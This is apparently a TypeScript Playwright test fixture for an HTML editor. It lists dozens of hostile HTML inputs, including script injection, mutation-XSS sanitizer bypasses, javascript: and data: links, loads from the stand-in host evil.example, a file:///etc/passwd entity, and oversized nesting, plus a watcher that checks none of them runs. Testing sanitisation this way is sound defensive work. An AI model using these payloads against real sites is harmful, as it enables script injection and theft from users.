import { expect, type Page } from '@playwright/test';

const RUN = (name: string): string => `window.ran=(window.ran||'')+'${name} ';alert('${name}')`;
const FAR = 'https://evil.example';

/** HTML that runs something, asks for something or breaks something where it is taken as a page. */
export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  script: `a<script>${RUN('script')}</script>`,
  'script from afar': `a<script src="${FAR}/x.js"></script>`,
  'module script': `a<script type=module>import '${FAR}/m.js'</script>`,
  'broken script': `a<scr<script>ipt>${RUN('broken')}</scr</script>ipt>`,
  'image error': `a<img src=x onerror="${RUN('img')}">`,
  'image without quotes': `a<img/src/onerror=window.ran=1>`,
  'image set': `a<img srcset="${FAR}/1.png 1x, ${FAR}/2.png 2x" sizes=100vw>`,
  picture: `a<picture><source srcset="${FAR}/s.webp"><img src="${FAR}/s.png"></picture>`,
  'svg load': `a<svg onload="${RUN('svg')}"></svg>`,
  'svg script': `a<svg><script>${RUN('svgscript')}</script></svg>`,
  'svg script by reference': `a<svg><script href="${FAR}/s.js"/></svg>`,
  'svg animation': `a<svg><a><animate attributeName=href values=javascript:window.ran=1 /><text y=9>x</text></a></svg>`,
  'svg use': `a<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='window.ran=1'/></svg>#x"/></svg>`,
  'svg foreign': `a<svg><foreignObject><body onload="${RUN('foreign')}"></foreignObject></svg>`,
  'svg image': `a<svg><image xlink:href="${FAR}/i.png"/><feImage href="${FAR}/f.png"/></svg>`,
  'math link': `a<math><mtext href="javascript:window.ran=1">x</mtext></math>`,
  'math mutation': `a<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN('math')}&gt;">`,
  'noscript mutation': `a<noscript><p title="</noscript><img src=x onerror=${RUN('noscript')}>"></noscript>`,
  'svg mutation': `a<svg></p><style><a id="</style><img src=1 onerror=${RUN('svgmut')}>">`,
  'form mutation': `a<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN('formmut')}>`,
  'title mutation': `a<title><img src=x onerror=${RUN('title')}></title>`,
  template: `a<template><img src=x onerror=${RUN('template')}></template><div><template shadowrootmode=open><script>${RUN('shadow')}</script></template></div>`,
  'javascript link': `<a href="javascript:${RUN('href')}">a</a>`,
  'javascript link in disguise':
    '<a href=" j&#97;vascript&colon;window.ran=1">a</a><a href="java\tscript:window.ran=1">b</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">a</a>',
  'data link': `<a href="data:text/html,<script>${RUN('data')}</script>">a</a>`,
  'blob and file links': '<a href="blob:app://digest/1">a</a><a href="file:///etc/passwd">b</a>',
  'pinging link': `<a ping="${FAR}/ping" href="https://example.org">a</a>`,
  frame: `a<iframe src="${FAR}/frame"></iframe><frameset><frame src="${FAR}/f"></frameset>`,
  'frame with its own page': `a<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  'frame that runs': `a<iframe src="javascript:parent.ran=1"></iframe>`,
  object: `a<object data="${FAR}/o"></object><embed src="${FAR}/e"><applet code="${FAR}/a">`,
  'object that runs': `a<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4="></object>`,
  refresh: `<meta http-equiv=refresh content="0;url=${FAR}/refresh">a`,
  'policy and base': `<meta http-equiv="Content-Security-Policy" content="script-src *"><base href="${FAR}/">a<a href=x>b</a>`,
  'linked style': `<link rel=stylesheet href="${FAR}/s.css"><link rel=prefetch href="${FAR}/p"><link rel=modulepreload href="${FAR}/m.js">a`,
  'style import': `<style>@import url("${FAR}/i.css");body{display:none!important;background:url(${FAR}/b.png)}@font-face{font-family:x;src:url(${FAR}/f.woff)}</style>a`,
  'style of an element': `<p style="background:url('${FAR}/p.png');position:fixed;inset:0;z-index:99999">a</p>`,
  'style that runs': `<p style="width:expression(window.ran=1);behavior:url(${FAR}/x.htc);-moz-binding:url(${FAR}/x.xml)">a</p>`,
  'names of the page':
    '<form id=digest name=digest><input name=call><input id=location name=getElementById></form><a id=ran name=ran href=x>a</a><img name=body><p id=root>b</p>',
  'form that is sent': `<form action="javascript:window.ran=1"><button autofocus onfocus="window.ran=1">a</button><input type=image src="${FAR}/in.png"></form>`,
  'focus and toggle': `a<details open ontoggle="${RUN('toggle')}"><summary>b</summary></details><input autofocus onfocus="window.ran=1"><marquee onstart="window.ran=1">c</marquee>`,
  media: `a<video autoplay src="${FAR}/v.mp4" poster="${FAR}/p.png" onerror="window.ran=1"></video><audio src="${FAR}/a.mp3" autoplay></audio><track src="${FAR}/t.vtt">`,
  animation:
    '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="window.ran=1">a</p>',
  popover:
    '<button popovertarget=x>a</button><div popover id=x onbeforetoggle="window.ran=1">b</div>',
  'custom element': `<x-y onclick=window.ran=1 is=script><slot onslotchange=window.ran=1></slot>a</x-y>`,
  'old bodies': `<body background="${FAR}/bg.png" onload="window.ran=1" onpageshow="window.ran=1"><table background="${FAR}/t.png"><tr><td background="${FAR}/d.png">a</table>`,
  'comments of old browsers': `a<!--[if true]><script>${RUN('if')}</script><![endif]--><comment><img src="</comment><img src=x onerror=window.ran=1//">`,
  'import of old browsers': `<?xml-stylesheet href="${FAR}/x.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>a&e;`,
  'ProseMirror slice':
    '<div data-pm-slice="1 1 [&quot;script&quot;,{&quot;src&quot;:1}]"><p data-pm-x>a</p></div>',
};

/** Pages that cost more than they are worth: depth, length, attributes. */
export const LARGE_HTML: Readonly<Record<string, string>> = {
  'tables in one another': `${'<table><tr><td>'.repeat(5000)}deep${'</table>'.repeat(5000)}`,
  'lists in one another': `${'<ul><li>'.repeat(3000)}deep`,
  'marks in one another': `${'<b><i><a href=https://example.org>'.repeat(3000)}deep`,
  'two megabytes': '<p onclick="window.ran=1">Two megabytes of a page. </p>'.repeat(36_000),
  'many attributes': `<p ${Array.from({ length: 20_000 }, (_, at) => `onx${String(at)}=1`).join(' ')}>a</p>`,
};

/** What a page has done that a text must not make it do. */
export interface Watch {
  /** That nothing ran, nothing was asked for, and the page is the one it was. */
  readonly expectQuiet: () => Promise<void>;
}

/** Looks on from now: dialogs, requests, what the page's policy refused, errors. */
export async function watch(page: Page): Promise<Watch> {
  const seen: string[] = [];
  const place = (): string => page.url().replace(/\?.*$/, '');
  const url = place();
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!/^(?:app|blob):/.test(request.url())) seen.push(`request: ${request.url().slice(0, 200)}`);
  });
  page.on('pageerror', (error) => seen.push(`error: ${error.message}`));
  page.on('popup', (popup) => seen.push(`window: ${popup.url()}`));
  await page.evaluate(() => {
    const target = window as unknown as { refused: string[] };
    target.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      target.refused.push(`${event.violatedDirective}: ${event.blockedURI}`);
    });
  });
  return {
    expectQuiet: async () => {
      const { ran, refused } = await page.evaluate(() => {
        const { ran: it, refused: all } = window as unknown as { ran?: unknown; refused: string[] };
        return { ran: it ?? null, refused: all };
      });
      expect({ seen, ran, refused, url: place() }).toEqual({
        seen: [],
        ran: null,
        refused: [],
        url,
      });
    },
  };
}
